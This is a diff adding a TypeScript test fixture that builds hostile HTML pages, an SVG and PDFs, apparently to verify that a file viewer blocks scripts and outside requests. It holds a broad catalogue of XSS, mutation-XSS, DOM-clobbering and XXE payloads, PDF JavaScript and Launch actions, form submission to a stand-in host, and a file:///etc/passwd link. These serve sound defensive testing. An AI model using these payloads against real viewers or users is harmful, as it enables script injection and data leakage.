@@ -1,0 +1,198 @@
+import type { MadeFile } from '../steps/open-file-page.ts'
+import { EXTRA, writePdf } from './pdf-writer.ts'
+
+/**
+ * The host that everything in these files tries to reach. The name resolves nowhere; a request
+ * would be seen all the same.
+ */
+export const ELSEWHERE = 'https://elsewhere.invalid'
+
+/** The effects of a script of these files: a mark on every window that it reaches, and a dialog. */
+const RUN = 'try{top.ran=1}catch(e){};try{parent.ran=1}catch(e){};self.ran=1;alert(1)'
+
+/** Bodies of web pages that try to act, each in another way. Each says "Readable" somewhere. */
+const PAGES: readonly (readonly [name: string, body: string])[] = [
+  ['script', `<script>${RUN}</script><script src="${ELSEWHERE}/a.js"></script><p>Readable</p>`],
+  [
+    'handlers',
+    `<p onclick="${RUN}" onmouseover="${RUN}">Readable</p><img src=x onerror="${RUN}">` +
+      `<body onload="${RUN}"><details open ontoggle="${RUN}"><summary>s</summary></details>` +
+      `<input autofocus onfocus="${RUN}">`,
+  ],
+  [
+    'addresses',
+    `<p>Readable</p><a href="javascript:${RUN}">a</a><a href="data:text/html,<script>` +
+      `${RUN}</script>">b</a><a href="  java&#10;script:${RUN}">c</a><a ` +
+      `href="vbscript:x">d</a><area href="javascript:${RUN}">`,
+  ],
+  [
+    'drawings',
+    `<p>Readable</p><svg onload="${RUN}"><script>${RUN}</script><image ` +
+      `href="${ELSEWHERE}/i.png"/><foreignObject><img src=x onerror="${RUN}"></foreignObject>` +
+      `<use href="${ELSEWHERE}/u.svg#a"/><a xlink:href="javascript:${RUN}"><text>t</text></a>` +
+      `</svg><math><mtext><img src=x onerror="${RUN}"></mtext></math>`,
+  ],
+  [
+    'styles',
+    `<style>@import url(${ELSEWHERE}/s.css); body{background:url(${ELSEWHERE}/b.png)} ` +
+      `@font-face{font-family:f;src:url(${ELSEWHERE}/f.woff)} *{font-family:f}</style><link ` +
+      `rel=stylesheet href="${ELSEWHERE}/l.css"><p style="background:url(${ELSEWHERE}/p.png)"` +
+      '>Readable</p>',
+  ],
+  [
+    'pictures',
+    `<p>Readable</p><img src="${ELSEWHERE}/i.png" srcset="${ELSEWHERE}/j.png 2x"><picture>` +
+      `<source srcset="${ELSEWHERE}/k.png"><img src="//elsewhere.invalid/m.png"></picture>` +
+      `<video poster="${ELSEWHERE}/v.png" src="${ELSEWHERE}/v.mp4" autoplay></video><audio ` +
+      `src="${ELSEWHERE}/a.mp3" autoplay></audio><table background="${ELSEWHERE}/t.png"><tr>` +
+      `<td>x</table><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' ` +
+      `onload='${RUN}'/>">`,
+  ],
+  [
+    'frames',
+    `<p>Readable</p><iframe src="${ELSEWHERE}/"></iframe><iframe srcdoc="<script>` +
+      `${RUN}</script>"></iframe><object data="${ELSEWHERE}/o"></object><embed ` +
+      `src="${ELSEWHERE}/e"><portal src="${ELSEWHERE}/p"></portal>`,
+  ],
+  [
+    'leaving',
+    `<meta http-equiv=refresh content="0;url=${ELSEWHERE}/r"><base href="${ELSEWHERE}/">` +
+      `<link rel=prefetch href="${ELSEWHERE}/p"><link rel=preconnect href="${ELSEWHERE}">` +
+      '<link rel=dns-prefetch href="//elsewhere.invalid"><p>Readable</p><img ' +
+      'src="relative.png">',
+  ],
+  [
+    'forms',
+    `<p>Readable</p><form action="${ELSEWHERE}/f" id=f><input name=a value=1><button ` +
+      `formaction="javascript:${RUN}">b</button><input type=image src="${ELSEWHERE}/i.png">` +
+      `</form><form id=g action="javascript:${RUN}"></form><isindex ` +
+      `action="javascript:${RUN}">`,
+  ],
+  [
+    'clobbering',
+    '<p>Readable</p><form id=attributes><input name=nodeName></form><img name=body><img ' +
+      'id=documentElement><a id=defaultView name=cookie>x</a>',
+  ],
+  [
+    'mutation',
+    `<p>Readable</p><noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>` +
+      '<math><mi><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 ' +
+      `onerror=${RUN}&gt;"></table></mi></math><template><script>${RUN}</script></template>` +
+      `<xmp><img src=x onerror=${RUN}></xmp>`,
+  ],
+  [
+    'encoding',
+    `<p>Readable</p>+ADw-script+AD4-${RUN}+ADw-/script+AD4-<scr\u0000ipt>` +
+      `${RUN}</scr\u0000ipt><IMG ` +
+      `SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${RUN}>` +
+      `<img/src="x"/onerror=${RUN}>`,
+  ],
+]
+
+export const HOSTILE_PAGES: readonly MadeFile[] = [
+  ...PAGES.map(([name, body]) => ({
+    name: `${name}.html`,
+    bytes: Buffer.from(
+      `<!DOCTYPE html><html><head><title>t</title></head><body>${body}</body></html>`,
+    ),
+  })),
+  {
+    name: 'deep.html',
+    bytes: Buffer.from(
+      `<!DOCTYPE html><p>Readable</p>${'<div>'.repeat(20_000)}<script>${RUN}</script>`,
+    ),
+  },
+  {
+    name: 'xhtml.html',
+    bytes: Buffer.from(
+      `<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "${ELSEWHERE}/x">]><html ` +
+        'xmlns="http://www.w3.org/1999/xhtml"><body><p>Readable &x;</p><script>' +
+        `${RUN}</script></body></html>`,
+    ),
+  },
+]
+
+/** A drawing that tries to act. */
+export const HOSTILE_DRAWING: MadeFile = {
+  name: 'drawing.svg',
+  bytes: Buffer.from(
+    `<?xml version="1.0"?><?xml-stylesheet href="${ELSEWHERE}/s.css"?><svg ` +
+      'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ' +
+      `width="200" height="100" onload="${RUN}">` +
+      (`<script>${RUN}</script><style>@import url(${ELSEWHERE}/t.css);</style><image ` +
+        `href="${ELSEWHERE}/i.png" width="9" height="9"/><foreignObject width="9" height="9">` +
+        `<iframe xmlns="http://www.w3.org/1999/xhtml" src="${ELSEWHERE}/f"/></foreignObject>`) +
+      (`<animate attributeName="href" values="javascript:${RUN}"/><a ` +
+        `xlink:href="javascript:${RUN}"><text x="10" y="40">Readable</text></a></svg>`),
+  ),
+}
+
+const script = (code: string) =>
+  `<< /S /JavaScript /JS (${code.replaceAll(/[()\\]/g, String.raw`\$&`)}) >>`
+const rectangle = '/Rect [40 700 300 790]'
+
+/**
+ * PDFs that try to act when they are opened, viewed or pressed. Each says "Readable" on its first
+ * page.
+ */
+export const HOSTILE_PDFS: readonly MadeFile[] = [
+  {
+    name: 'open-script',
+    catalog: `/OpenAction ${script(RUN)} /Names << /JavaScript << /Names [(a) ${script(RUN)}] >> >>`,
+  },
+  { name: 'open-address', catalog: `/OpenAction << /S /URI /URI (${ELSEWHERE}/open) >>` },
+  {
+    name: 'open-program',
+    catalog: '/OpenAction << /S /Launch /F (calc.exe) /Win << /F (calc.exe) >> >>',
+  },
+  {
+    name: 'page-actions',
+    firstPage: `/AA << /O ${script(RUN)} /C ${script(RUN)} >>`,
+    catalog: `/AA << /WC ${script(RUN)} >>`,
+  },
+  {
+    name: 'sending',
+    catalog: `/OpenAction << /S /SubmitForm /F << /FS /URL /F (${ELSEWHERE}/form) >> /Flags 4 >>`,
+  },
+  {
+    name: 'pressed',
+    annotations: [
+      `<< /Type /Annot /Subtype /Link ${rectangle} /A ${script(RUN)} >>`,
+      `<< /Type /Annot /Subtype /Link ${rectangle} /A << /S /URI /URI ` +
+        `(javascript:${RUN.replaceAll(/[()]/g, String.raw`\$&`)}) >> >>`,
+      `<< /Type /Annot /Subtype /Link ${rectangle} /A << /S /Launch /F (calc.exe) >> >>`,
+      `<< /Type /Annot /Subtype /Link ${rectangle} /A << /S /GoToR /F ` +
+        `(\\\\\\\\elsewhere.invalid\\\\a.pdf) /D [0 /Fit] >> >>`,
+      `<< /Type /Annot /Subtype /Link ${rectangle} /A << /S /URI /URI (file:///etc/passwd) >> >>`,
+    ],
+  },
+  {
+    name: 'fields',
+    catalog: `/AcroForm << /Fields [${EXTRA} 0 R] /CO [${EXTRA} 0 R] /NeedAppearances true /XFA ${EXTRA + 1} 0 R >>`,
+    annotations: [`${EXTRA} 0 R`],
+    extra: [
+      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (kept value) ${rectangle} /AA ` +
+        `<< /K ${script(RUN)} /F ${script(RUN)} /Fo ${script(RUN)} >> /A ${script(RUN)} >>`,
+      `<< /Length 60 >>\nstream\n<xdp><script>app.alert(1)</script></xdp>                        \nendstream`,
+    ],
+  },
+  {
+    name: 'attached',
+    catalog: `/Names << /EmbeddedFiles << /Names [(a.exe) ${EXTRA} 0 R] >> >>`,
+    extra: [
+      `<< /Type /Filespec /F (a.exe) /UF (a.exe) /EF << /F ${EXTRA + 1} 0 R >> >>`,
+      '<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ..\nendstream',
+    ],
+  },
+  {
+    name: 'media',
+    annotations: [
+      `<< /Type /Annot /Subtype /Screen ${rectangle} /A << /S /Rendition /OP 0 /R << /S ` +
+        `/MR /C << /S /MCD /D << /FS /URL /F (${ELSEWHERE}/m.mp4) >> /CT (video/mp4) >> >> ` +
+        '>> >>',
+    ],
+  },
+].map(({ name, ...plan }) => ({
+  name: `${name}.pdf`,
+  bytes: writePdf({ pages: [['Readable']], ...plan }),
+}))
